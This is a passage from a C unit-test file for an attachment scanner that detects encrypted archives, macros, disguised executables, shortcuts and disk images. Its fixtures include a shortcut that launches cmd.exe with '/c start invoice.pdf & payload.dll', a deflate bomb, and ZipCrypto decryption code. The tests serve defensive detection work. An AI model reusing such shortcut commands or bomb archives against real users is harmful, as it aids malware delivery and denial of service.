    scan(w, (const uint8_t *)pdf, strlen(pdf), strlen(pdf), &r);
    assert_int_equal(r.kind, ZS_K_PDF);
    assert_int_equal(r.flags, 0);
    scan(w, (const uint8_t *)"", 0, 0, &r);
    assert_int_equal(r.kind, ZS_K_EMPTY);
    b_free(&pe);
    b_free(&dll);
    b_free(&elf);
    zs_work_free(w);
}

static void test_scan_zip(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    struct buf pe = mk_pe(3000, false);
    static const char txt[] = "hello world, nothing to see here\r\n";
    struct zipw z = {0};

    /* plain archive: nothing to report */
    zip_add(&z, "readme.txt", (const uint8_t *)txt, strlen(txt), DEFL);
    struct buf a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_int_equal(r.kind, ZS_K_ZIP);
    assert_int_equal(r.flags, 0);
    assert_int_equal(r.entries, 1);
    assert_int_equal(r.n_names, 1);
    assert_string_equal(r.names[0].s, "readme.txt");
    assert_false(r.names[0].encrypted);
    b_free(&a);

    /* an executable inside, stored and deflated: found by content */
    zip_add(&z, "invoice.pdf", pe.p, pe.len, DEFL);
    zip_add(&z, "tool.bin", pe.p, pe.len, STORED);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    const struct zs_item *it = need_item(&r, "invoice.pdf");
    assert_int_equal(it->kind, ZS_K_PE);
    assert_non_null(item(&r, "tool.bin"));
    assert_true(r.inflated_bytes > 0);
    b_free(&a);

    /* encrypted: the flag in the central directory only, then in the local header only */
    struct zent_opt cd_only = {8, 0, 1}, local_only = {8, 1, 0};
    zip_add(&z, "invoice.doc", (const uint8_t *)txt, strlen(txt), cd_only);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_int_equal(r.encrypted_entries, 1);
    assert_string_equal(r.encryption, "zipcrypto");
    assert_true(r.names[0].encrypted);
    b_free(&a);
    zip_add(&z, "invoice.doc", (const uint8_t *)txt, strlen(txt), local_only);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    /* the same archive cut before its central directory: local headers still tell */
    scan(w, a.p, 40, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.status & ZS_S_TRUNCATED);
    b_free(&a);
    struct zent_opt aes = {99, 1, 1};
    zip_add(&z, "secret.xlsx", (const uint8_t *)txt, strlen(txt), aes);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_string_equal(r.encryption, "aes");
    b_free(&a);

    /* an encrypted archive with an executable name inside: both reasons */
    struct zent_opt enc = {8, 1, 1};
    zip_add(&z, "scan.pdf.exe", pe.p, pe.len, enc);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.flags & ZS_F_DISGUISED);
    it = need_item(&r, "scan.pdf.exe");
    assert_true(it->encrypted);
    b_free(&a);
    b_free(&pe);
    zs_work_free(w);
}

/* zs_set_passwords from a list of C strings. */
static void set_pw(zs_work_t *w, const char *const *pw, size_t n)
{
    const uint8_t *p[16];
    size_t l[16];
    for (size_t i = 0; i < n; i++) {
        p[i] = (const uint8_t *)pw[i];
        l[i] = strlen(pw[i]);
    }
    zs_set_passwords(w, p, l, n);
}

/* A wrong password whose check byte still agrees with the entry's (about one in 256 does):
 * the scanner must get past it on the CRC and leave no trace of the attempt. */
static void pw_colliding(const struct buf *a, char out[16])
{
    for (int i = 0; i < 100000; i++) {
        snprintf(out, 16, "w%d", i);
        struct zc_w k = {{0x12345678u, 0x23456789u, 0x34567890u}};
        for (const char *q = out; *q; q++)
            zcw_update(&k, (uint8_t)*q);
        /* decrypt the 12-byte header of the first entry (local header of 30 + name) */
        size_t nl = (size_t)(a->p[26] | a->p[27] << 8), at = 30 + nl;
        uint8_t last = 0;
        for (int j = 0; j < 12; j++) {
            uint32_t t = (k.k[2] | 2) & 0xffff;
            last = (uint8_t)(a->p[at + (size_t)j] ^ ((t * (t ^ 1)) >> 8));
            zcw_update(&k, last);
        }
        uint32_t crc = (uint32_t)a->p[14] | (uint32_t)a->p[15] << 8 | (uint32_t)a->p[16] << 16 |
                       (uint32_t)a->p[17] << 24;
        if (last == (uint8_t)(crc >> 24))
            return;
    }
    fail_msg("no colliding password found");
}

/* ZipCrypto entries opened with a password given: stored and deflated, a data descriptor,
 * the right password among wrong ones (one of which passes the check byte), none right, AES
 * (not opened), a cut archive (content seen but not counted as opened), an encrypted archive
 * inside an encrypted archive, the password bounds. */
static void test_scan_zipcrypto(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    struct buf pe = mk_pe(3000, false);
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    struct buf ole = mk_ole(vba_names, vba_types, 4, NULL, false);
    static const char txt[] = "Quarterly figures, nothing active in here.\r\n";
    struct zipw z = {0};

    /* (notes.txt inflates to more than the 4 KiB a type needs: opening reads all of it) */
    struct buf notes = {0};
    for (int i = 0; i < 150; i++)
        b_put(&notes, txt, strlen(txt));
    zip_add_zc(&z, "invoice.doc", ole.p, ole.len, 8, "0423", false);
    zip_add_zc(&z, "setup.bin", pe.p, pe.len, 0, "0423", false);
    zip_add_zc(&z, "notes.txt", notes.p, notes.len, 8, "0423", true);
    struct buf a = zip_end(&z);

    /* no password: hidden, as before */
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_int_equal(r.encrypted_entries, 3);
    assert_int_equal(r.opened_entries, 0);
    assert_int_equal(r.inflated_bytes, 0);
    assert_string_equal(r.desc, "ZIP archive (encrypted)");

    /* the right one among wrong ones, one of which passes the check byte */
    char coll[16];
    pw_colliding(&a, coll);
    const char *pws[] = {"letmein", coll, "0423", "zz"};
    set_pw(w, pws, 4);
    scan(w, a.p, a.len, a.len, &r);
    assert_false(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_MACRO);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_int_equal(r.encrypted_entries, 3);
    assert_int_equal(r.opened_entries, 3);
    assert_int_equal(r.status, 0);
    assert_string_equal(r.desc, "ZIP archive (encrypted, passphrase found)");
    assert_string_equal(r.encryption, "zipcrypto");
    for (uint32_t i = 0; i < 3; i++)
        assert_true(r.names[i].encrypted && r.names[i].opened);
    assert_int_equal(need_item(&r, "invoice.doc")->kind, ZS_K_OLE);
    assert_int_equal(need_item(&r, "setup.bin")->kind, ZS_K_PE);
    uint64_t inflated = r.inflated_bytes;
    /* the same with only the right password: the wrong ones left no trace */
    const char *right[] = {"0423"};
    set_pw(w, right, 1);
    scan(w, a.p, a.len, a.len, &r);
    assert_int_equal(r.opened_entries, 3);
    assert_int_equal(r.inflated_bytes, inflated);
    assert_int_equal(r.status, 0);

    /* only wrong passwords (the colliding one too): hidden, nothing inflated, no damage */
    const char *wrong[] = {coll, "0424", "", "04230"};
    set_pw(w, wrong, 4);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_false(r.flags & (ZS_F_MACRO | ZS_F_EXECUTABLE));
    assert_int_equal(r.opened_entries, 0);
    assert_int_equal(r.inflated_bytes, 0);
    assert_int_equal(r.status, 0);
    assert_false(r.names[0].opened);

    /* cut inside the second entry (local headers only): the first is opened whole, the
     * second's first bytes are read and scanned (a PE), but it stays hidden as a whole */
    set_pw(w, right, 1);
    size_t csize1 = (size_t)a.p[18] | (size_t)a.p[19] << 8 | (size_t)a.p[20] << 16 |
                    (size_t)a.p[21] << 24;
    size_t second = 30 + strlen("invoice.doc") + csize1;
    size_t cut = second + 30 + strlen("setup.bin") + 12 + 600;
    scan(w, a.p, cut, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.flags & ZS_F_MACRO);
    assert_int_equal(r.opened_entries, 1);
    assert_true(r.status & ZS_S_TRUNCATED);
    b_free(&a);

    /* a damaged entry (its CRC wrong in the low bytes, so the check byte still agrees): the
     * password fits and the data inflates, but the CRC disagrees: not opened, no trace */
    zip_add_zc(&z, "invoice.doc", ole.p, ole.len, 8, "0423", false);
    a = zip_end(&z);
    for (size_t i = 0; i + 4 <= a.len; i++)
        if (!memcmp(a.p + i, "PK\1\2", 4) || !memcmp(a.p + i, "PK\3\4", 4))
            a.p[i + (a.p[i + 2] == 1 ? 16 : 14)] ^= 0x5a;
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_int_equal(r.opened_entries, 0);
    assert_int_equal(r.inflated_bytes, 0);
    assert_int_equal(r.status, 0);
    b_free(&a);
    /* ... and its inflating is given back to the budget: with room for one entry only, the
     * good entry behind the damaged one is still opened */
    zip_add_zc(&z, "invoice.doc", ole.p, ole.len, 8, "0423", false);
    zip_add_zc(&z, "report.doc", ole.p, ole.len, 8, "0423", false);
    a = zip_end(&z);
    a.p[14] ^= 0x5a; /* the first entry's local and central CRC */
    for (size_t i = 0; i + 4 <= a.len; i++)
        if (!memcmp(a.p + i, "PK\1\2", 4)) {
            a.p[i + 16] ^= 0x5a;
            break;
        }
    zs_work_t *tight = work(3, 256, 512 << 10, ole.len + 64);
    set_pw(tight, right, 1);
    scan(tight, a.p, a.len, a.len, &r);
    assert_int_equal(r.opened_entries, 1);
    assert_false(r.names[0].opened);
    assert_true(r.names[1].opened);
    assert_true(r.flags & ZS_F_MACRO);
    zs_work_free(tight);
    b_free(&a);

    /* AES entries are not opened, whatever the password */
    zip_add(&z, "secret.doc", ole.p, ole.len, (struct zent_opt){99, 1, 1});
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_int_equal(r.opened_entries, 0);
    assert_string_equal(r.encryption, "aes");
    b_free(&a);

    /* an encrypted ZIP inside an encrypted ZIP, the same password: both opened */
    zip_add_zc(&z, "payload.exe", pe.p, pe.len, 8, "0423", false);
    struct buf inner = zip_end(&z);
    zip_add_zc(&z, "docs.zip", inner.p, inner.len, 0, "0423", false);
    a = zip_end(&z);
    scan(w, a.p, a.len, a.len, &r);
    assert_false(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_int_equal(r.opened_entries, 2);
    assert_int_equal(need_item(&r, "docs.zip!/payload.exe")->kind, ZS_K_PE);
    b_free(&a);
    b_free(&inner);

    /* an entry larger than max-entry-bytes: its first 4 KiB decrypted and scanned, the rest
     * cut by our bound (limit, not truncated), and so not counted as opened */
    zs_work_t *small = work(3, 256, 4096, 4 << 20);
    struct buf big = mk_pe(10000, false);
    zip_add_zc(&z, "setup.bin", big.p, big.len, 0, "0423", false);
    a = zip_end(&z);
    set_pw(small, right, 1);
    scan(small, a.p, a.len, a.len, &r);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_int_equal(r.opened_entries, 0);
    assert_true(r.status & ZS_S_LIMIT);
    assert_false(r.status & ZS_S_TRUNCATED);
    b_free(&a);
    b_free(&big);
    zs_work_free(small);

    /* bounds: eight passwords at most (a ninth is not tried), 64 bytes of each */
    char longpw[80];
    memset(longpw, 'q', sizeof longpw - 1);
    longpw[sizeof longpw - 1] = '\0';
    zip_add_zc(&z, "setup.bin", pe.p, pe.len, 8, "0423", false);
    struct buf b1 = zip_end(&z);
    const char *nine[] = {"a", "b", "c", "d", "e", "f", "g", "h", "0423"};
    set_pw(w, nine, 9);
    scan(w, b1.p, b1.len, b1.len, &r);
    assert_int_equal(r.opened_entries, 0);
    set_pw(w, nine + 1, 8);
    scan(w, b1.p, b1.len, b1.len, &r);
    assert_int_equal(r.opened_entries, 1);
    char cut64[65];
    memcpy(cut64, longpw, 64);
    cut64[64] = '\0';
    zip_add_zc(&z, "setup.bin", pe.p, pe.len, 8, cut64, false);
    struct buf b2 = zip_end(&z);
    const char *lp[] = {longpw};
    set_pw(w, lp, 1);
    scan(w, b2.p, b2.len, b2.len, &r);
    assert_int_equal(r.opened_entries, 1); /* the first 64 bytes are the password */
    set_pw(w, NULL, 0);
    scan(w, b2.p, b2.len, b2.len, &r);
    assert_int_equal(r.opened_entries, 0);
    b_free(&b1);
    b_free(&b2);
    b_free(&notes);
    b_free(&pe);
    b_free(&ole);
    zs_work_free(w);
}

static void test_scan_zip_limits(void **state)
{
    (void)state;
    struct zs_result r;
    struct buf pe = mk_pe(1024, false);
    struct zipw z = {0};
    /* nesting: zip(zip(zip(zip(pe)))): seen with depth 4, not with depth 3 */
    struct buf cur = {0};
    b_put(&cur, pe.p, pe.len);
    for (int level = 0; level < 4; level++) {
        zip_add(&z, level == 0 ? "payload.exe.bin" : "inner.zip", cur.p, cur.len, DEFL);
        b_free(&cur);
        cur = zip_end(&z);
    }
    zs_work_t *w3 = work(3, 256, 512 << 10, 4 << 20);
    zs_work_t *w4 = work(4, 256, 512 << 10, 4 << 20);
    scan(w3, cur.p, cur.len, cur.len, &r);
    assert_false(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.status & ZS_S_LIMIT);
    assert_int_equal(r.depth, 3);
    scan(w4, cur.p, cur.len, cur.len, &r);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_non_null(item(&r, "inner.zip!/inner.zip!/inner.zip!/payload.exe.bin"));
    b_free(&cur);

    /* more entries than the limit: the rest is not examined, and that is said */
    zs_work_t *w10 = work(3, 10, 512 << 10, 4 << 20);
    char name[32];
    for (int i = 0; i < 12; i++) {
        snprintf(name, sizeof name, "f%02d.txt", i);
        zip_add(&z, name, (const uint8_t *)"x", 1, STORED);
    }
    zip_add(&z, "late.exe", pe.p, pe.len, STORED);
    cur = zip_end(&z);
    scan(w10, cur.p, cur.len, cur.len, &r);
    assert_int_equal(r.entries, 10);
    assert_true(r.status & ZS_S_LIMIT);
    assert_false(r.flags & ZS_F_EXECUTABLE);
    scan(w3, cur.p, cur.len, cur.len, &r);
    assert_int_equal(r.entries, 13);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_int_equal(r.entries_declared, 13);
    b_free(&cur);

    /* a deflate bomb: 4 x 8 MiB of zeros named as disk images (inflated in full, not just
     * their first 4 KiB); the byte budget stops it */
    size_t big = 8u << 20;
    uint8_t *zeros = calloc(1, big);
    assert_non_null(zeros);
    struct buf bomb = {0};
    for (int i = 0; i < 4; i++) {
        snprintf(name, sizeof name, "disk%d.iso", i);
        zip_add(&z, name, zeros, big, DEFL);
    }
    free(zeros);
    bomb = zip_end(&z);
    assert_true(bomb.len < (1u << 20));
    zs_work_t *wsmall = work(3, 256, 1 << 20, 2 << 20);
    scan(wsmall, bomb.p, bomb.len, bomb.len, &r);
    assert_int_equal(r.inflated_bytes, 2u << 20);
    assert_true(r.status & ZS_S_LIMIT);
    assert_true(r.flags & ZS_F_CONTAINER); /* by name */
    b_free(&bomb);

    /* a central directory whose 200 entries all point at one stored 300 KiB entry:
     * the work budget bounds the rescanning */
    struct buf blob = {0};
    for (size_t i = 0; i < 300u << 10; i++)
        b_u8(&blob, (uint8_t)(i * 31 + 7));
    zip_add(&z, "blob.bin", blob.p, blob.len, STORED);
    struct buf one = zip_end(&z);
    /* copy the single central entry 199 more times */
    size_t cd_off = 30 + 8 + blob.len, cd_len = 46 + 8;
    struct buf many = {0};
    b_put(&many, one.p, cd_off);
    for (int i = 0; i < 200; i++)
        b_put(&many, one.p + cd_off, cd_len);
    b_le32(&many, 0x06054b50);
    b_le16(&many, 0);
    b_le16(&many, 0);
    b_le16(&many, 200);
    b_le16(&many, 200);
    b_le32(&many, (uint32_t)(200 * cd_len));
    b_le32(&many, (uint32_t)cd_off);
    b_le16(&many, 0);
    zs_work_t *wwork = work(3, 1000, 512 << 10, 1 << 20);
    scan(wwork, many.p, many.len, many.len, &r);
    assert_int_equal(r.entries, 200);
    assert_true(r.status & ZS_S_LIMIT); /* 4 x 1 MiB + the file: about 14 rescans */
    b_free(&blob);
    b_free(&one);
    b_free(&many);

    b_free(&pe);
    zs_work_free(w3);
    zs_work_free(w4);
    zs_work_free(w10);
    zs_work_free(wsmall);
    zs_work_free(wwork);
}

static const char CT_PLAIN[] =
    "<?xml version=\"1.0\"?><Types><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-"
    "officedocument.wordprocessingml.document.main+xml\"/></Types>";
static const char CT_MACRO[] =
    "<?xml version=\"1.0\"?><Types><Override PartName=\"/word/document.xml\" ContentType="
    "\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";

static void test_scan_office(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    static const char *const plain_names[] = {"WordDocument", "1Table"};
    static const uint8_t plain_types[] = {2, 2};
    struct buf ole_vba = mk_ole(vba_names, vba_types, 4, NULL, false);
    struct buf ole_plain = mk_ole(plain_names, plain_types, 2, NULL, false);

    scan(w, ole_vba.p, ole_vba.len, ole_vba.len, &r);
    assert_int_equal(r.kind, ZS_K_OLE);
    assert_true(r.flags & ZS_F_MACRO);
    assert_string_equal(r.desc, "Microsoft Word 97-2003 document with VBA macros");
    scan(w, ole_plain.p, ole_plain.len, ole_plain.len, &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.desc, "Microsoft Word 97-2003 document");

    /* MSI: the root entry's class id */
    static const uint8_t msi[16] = {0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46};
    struct buf ole_msi = mk_ole(plain_names, plain_types, 2, msi, false);
    scan(w, ole_msi.p, ole_msi.len, ole_msi.len, &r);
    assert_int_equal(r.kind, ZS_K_MSI);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    /* password-protected OOXML */
    static const char *const enc_names[] = {"EncryptionInfo", "EncryptedPackage"};
    struct buf ole_enc = mk_ole(enc_names, plain_types, 2, NULL, false);
    scan(w, ole_enc.p, ole_enc.len, ole_enc.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_string_equal(r.encryption, "office");
    /* an embedded package object is noted */
    static const char *const pkg_names[] = {"WordDocument", "\001Ole10Native"};
    struct buf ole_pkg = mk_ole(pkg_names, plain_types, 2, NULL, false);
    scan(w, ole_pkg.p, ole_pkg.len, ole_pkg.len, &r);
    assert_int_equal(r.flags, 0);
    assert_non_null(strstr(r.note, "Ole10Native"));
    b_free(&ole_pkg);
    /* a directory chain that loops on itself ends */
    struct buf ole_loop = mk_ole(vba_names, vba_types, 4, NULL, true);
    scan(w, ole_loop.p, ole_loop.len, ole_loop.len, &r);
    assert_true(r.flags & ZS_F_MACRO);
    /* only the header: the directory is out of reach; the VBA name in the bytes still says
     * macros, and the scan says truncated */
    struct buf hdr = {0};
    b_put(&hdr, ole_vba.p, 512);
    static const uint8_t u16[] = {'_', 0, 'V', 0, 'B', 0, 'A', 0, '_', 0, 'P', 0, 'R', 0, 'O', 0,
                                  'J', 0, 'E', 0, 'C', 0, 'T', 0};
    b_put(&hdr, u16, sizeof u16);
    scan(w, hdr.p, hdr.len, 100000, &r);
    assert_true(r.flags & ZS_F_MACRO);
    assert_true(r.status & ZS_S_TRUNCATED);
    b_free(&hdr);

    /* OOXML: vbaProject.bin with a VBA project inside, or only the content type */
    struct zipw z = {0};
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    struct buf docx = zip_end(&z);
    scan(w, docx.p, docx.len, docx.len, &r);
    assert_int_equal(r.kind, ZS_K_OOXML);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.desc, "Microsoft Word 2007+ document");
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    zip_add(&z, "word/vbaProject.bin", ole_vba.p, ole_vba.len, DEFL);
    struct buf docm = zip_end(&z);
    scan(w, docm.p, docm.len, docm.len, &r);
    assert_int_equal(r.kind, ZS_K_OOXML);
    assert_true(r.flags & ZS_F_MACRO);
    assert_string_equal(r.desc, "Microsoft Word 2007+ document (macro-enabled)");
    const struct zs_item *it = need_item(&r, "word/vbaProject.bin");
    assert_int_equal(it->kind, ZS_K_OLE);
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_MACRO, strlen(CT_MACRO), DEFL);
    zip_add(&z, "xl/workbook.xml", (const uint8_t *)"<workbook/>", 11, DEFL);
    struct buf ct = zip_end(&z);
    scan(w, ct.p, ct.len, ct.len, &r);
    assert_true(r.flags & ZS_F_MACRO);
    assert_string_equal(r.desc, "Microsoft Excel 2007+ document (macro-enabled)");
    /* a macro document inside a plain zip */
    zip_add(&z, "report.docm", docm.p, docm.len, STORED);
    struct buf outer = zip_end(&z);
    scan(w, outer.p, outer.len, outer.len, &r);
    assert_true(r.flags & ZS_F_MACRO);
    assert_non_null(item(&r, "report.docm!/word/vbaProject.bin"));

    b_free(&ole_vba);
    b_free(&ole_plain);
    b_free(&ole_msi);
    b_free(&ole_enc);
    b_free(&ole_loop);
    b_free(&docx);
    b_free(&docm);
    b_free(&ct);
    b_free(&outer);
    zs_work_free(w);
}

static void test_scan_rar_7z(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    /* RAR 4: main header with encrypted block headers */
    struct buf b = {0};
    b_put(&b, "Rar!\x1a\x07\x00", 7);
    b_le16(&b, 0);
    b_u8(&b, 0x73);
    b_le16(&b, 0x0080);
    b_le16(&b, 13);
    b_zero(&b, 6);
    b_zero(&b, 64);
    scan(w, b.p, b.len, b.len, &r);
    assert_int_equal(r.kind, ZS_K_RAR);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_NAMES_HIDDEN);
    b_free(&b);
    /* RAR 4: one encrypted file "a.pdf.exe", then the end block */
    b_put(&b, "Rar!\x1a\x07\x00", 7);
    b_le16(&b, 0);
    b_u8(&b, 0x73);
    b_le16(&b, 0);
    b_le16(&b, 13);
    b_zero(&b, 6);
    const char *nm = "a.pdf.exe";
    b_le16(&b, 0);
    b_u8(&b, 0x74);
    b_le16(&b, 0x8004);
    b_le16(&b, (uint32_t)(32 + strlen(nm)));
    b_le32(&b, 5);  /* packed size */
    b_le32(&b, 5);
    b_u8(&b, 2);
    b_le32(&b, 0);
    b_le32(&b, 0);
    b_u8(&b, 29);
    b_u8(&b, 0x30);
    b_le16(&b, (uint32_t)strlen(nm));
    b_le32(&b, 0x20);
    b_put(&b, nm, strlen(nm));
    b_put(&b, "\x11\x22\x33\x44\x55", 5);
    b_le16(&b, 0);
    b_u8(&b, 0x7b);
    b_le16(&b, 0);
    b_le16(&b, 7);
    scan(w, b.p, b.len, b.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_false(r.flags & ZS_F_NAMES_HIDDEN);
    assert_true(r.flags & ZS_F_EXECUTABLE);
    assert_true(r.flags & ZS_F_DISGUISED);
    assert_int_equal(r.n_names, 1);
    assert_string_equal(r.names[0].s, "a.pdf.exe");
    /* every prefix: no over-read, and a cut is said */
    for (size_t k = 0; k < b.len; k++)
        scan(w, b.p, k, b.len, &r);
    b_free(&b);
    /* RAR 5: archive encryption header */
    b_put(&b, "Rar!\x1a\x07\x01\x00", 8);
    b_le32(&b, 0);
    b_u8(&b, 3);  /* header size */
    b_u8(&b, 4);  /* type: encryption */
    b_u8(&b, 0);
    b_u8(&b, 0);
    scan(w, b.p, b.len, b.len, &r);
    assert_true(r.flags & ZS_F_NAMES_HIDDEN);
    b_free(&b);
    /* RAR 5: a file header with an encryption extra record */
    struct buf h = {0};
    b_u8(&h, 2);      /* type file */
    b_u8(&h, 0x03);   /* extra + data */
    b_u8(&h, 3);      /* extra size */
    b_u8(&h, 4);      /* data size */
    b_u8(&h, 0);      /* file flags */
    b_u8(&h, 4);      /* unpacked size */
    b_u8(&h, 0);      /* attributes */
    b_u8(&h, 0);      /* compression */
    b_u8(&h, 0);      /* host os */
    b_u8(&h, 6);
    b_put(&h, "run.js", 6);
    b_u8(&h, 2);      /* extra record: size 2 */
    b_u8(&h, 1);      /* type 1: encryption */
    b_u8(&h, 0);
    b_put(&b, "Rar!\x1a\x07\x01\x00", 8);
    b_le32(&b, 0);
    b_u8(&b, (uint8_t)h.len);
    b_put(&b, h.p, h.len);
    b_put(&b, "DATA", 4);
    scan(w, b.p, b.len, b.len, &r);
    assert_true(r.flags & ZS_F_ENCRYPTED);
    assert_true(r.flags & ZS_F_SCRIPT);
    assert_string_equal(r.names[0].s, "run.js");
    for (size_t k = 0; k < b.len; k++)
        scan(w, b.p, k, b.len, &r);
    b_free(&h);
    b_free(&b);
    /* 7z: AES coder in a plain header, in an encoded header, header beyond the prefix */
    for (int variant = 0; variant < 3; variant++) {
        b_put(&b, "7z\xbc\xaf\x27\x1c\x00\x04", 8);
        b_le32(&b, 0);
        b_le64(&b, 16);
        b_le64(&b, 12);
        b_le32(&b, 0);
        b_zero(&b, 16);
        b_u8(&b, variant == 1 ? 0x17 : 0x01);
        b_put(&b, "\x0b\x01\x00\x24\x06\xf1\x07\x01\x00\x00\x00", 11);
        scan(w, b.p, variant == 2 ? 40 : b.len, b.len, &r);
        assert_int_equal(r.kind, ZS_K_7Z);
        if (variant == 2) {
            assert_false(r.flags & ZS_F_ENCRYPTED);
            assert_true(r.status & ZS_S_TRUNCATED);
        } else {
            assert_true(r.flags & ZS_F_ENCRYPTED);
            assert_int_equal(!!(r.flags & ZS_F_NAMES_HIDDEN), variant == 1);
        }
        b_free(&b);
    }
    zs_work_free(w);
}

static struct buf mk_lnk(void)
{
    struct buf b = {0};
    b_le32(&b, 0x4c);
    b_put(&b, "\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46", 16);
    b_le32(&b, 0x08 | 0x20 | 0x80);
    b_zero(&b, 0x4c - b.len);
    static const char rel[] = "..\\..\\Windows\\System32\\cmd.exe";
    static const char args[] = "/c start invoice.pdf & payload.dll";
    b_le16(&b, (uint32_t)strlen(rel));
    for (size_t i = 0; i < strlen(rel); i++)
        b_le16(&b, (uint8_t)rel[i]);
    b_le16(&b, (uint32_t)strlen(args));
    for (size_t i = 0; i < strlen(args); i++)
        b_le16(&b, (uint8_t)args[i]);
    return b;
}

static void test_scan_containers(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    struct buf lnk = mk_lnk();
    scan(w, lnk.p, lnk.len, lnk.len, &r);
    assert_int_equal(r.kind, ZS_K_LNK);
    assert_true(r.flags & ZS_F_CONTAINER);
    assert_non_null(strstr(r.note, "cmd.exe"));
    assert_non_null(strstr(r.note, "payload.dll"));
    for (size_t k = 0; k < lnk.len; k++)
        scan(w, lnk.p, k, lnk.len, &r);

    /* ISO 9660: root directory at sector 20 with INVOICE.LNK at sector 21 */
    struct buf iso = {0};
    b_zero(&iso, 0x8000);
    b_u8(&iso, 1);
    b_put(&iso, "CD001", 5);
    b_u8(&iso, 1);
    b_zero(&iso, 156 - 7);
    uint8_t root[34] = {34};
    wr_le32(root + 2, 20);
    wr_le32(root + 10, 2048);
    root[25] = 2;
    root[32] = 1;
    b_put(&iso, root, sizeof root);
    b_zero(&iso, 20 * 2048 - iso.len);
    uint8_t rec[48];
    for (int i = 0; i < 2; i++) { /* "." and ".." */
        memset(rec, 0, sizeof rec);
        rec[0] = 34;
        wr_le32(rec + 2, 20);
        rec[25] = 2;
        rec[32] = 1;
        rec[33] = (uint8_t)i;
        b_put(&iso, rec, 34);
    }
    memset(rec, 0, sizeof rec);
    const char *fn = "INVOICE.LNK;1";
    rec[0] = (uint8_t)(33 + strlen(fn) + 1);
    wr_le32(rec + 2, 21);
    wr_le32(rec + 10, (uint32_t)lnk.len);
    rec[32] = (uint8_t)strlen(fn);
    memcpy(rec + 33, fn, strlen(fn));
    b_put(&iso, rec, rec[0]);
    b_zero(&iso, 21 * 2048 - iso.len);
    b_put(&iso, lnk.p, lnk.len);
    b_zero(&iso, 22 * 2048 - iso.len);
    scan(w, iso.p, iso.len, iso.len, &r);
    assert_int_equal(r.kind, ZS_K_ISO);
    assert_true(r.flags & ZS_F_CONTAINER);
    const struct zs_item *it = need_item(&r, "INVOICE.LNK");
    assert_int_equal(it->kind, ZS_K_LNK);
    assert_non_null(strstr(r.note, "INVOICE.LNK: shortcut target"));
    /* a root directory pointing past the bytes */
    scan(w, iso.p, 0x8800, iso.len, &r);
    assert_int_equal(r.kind, ZS_K_ISO);
    assert_true(r.status & ZS_S_TRUNCATED);

    /* OneNote with an embedded PE */
    struct buf pe = mk_pe(1024, false);
    struct buf one = {0};
    b_put(&one, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
    b_zero(&one, 200);
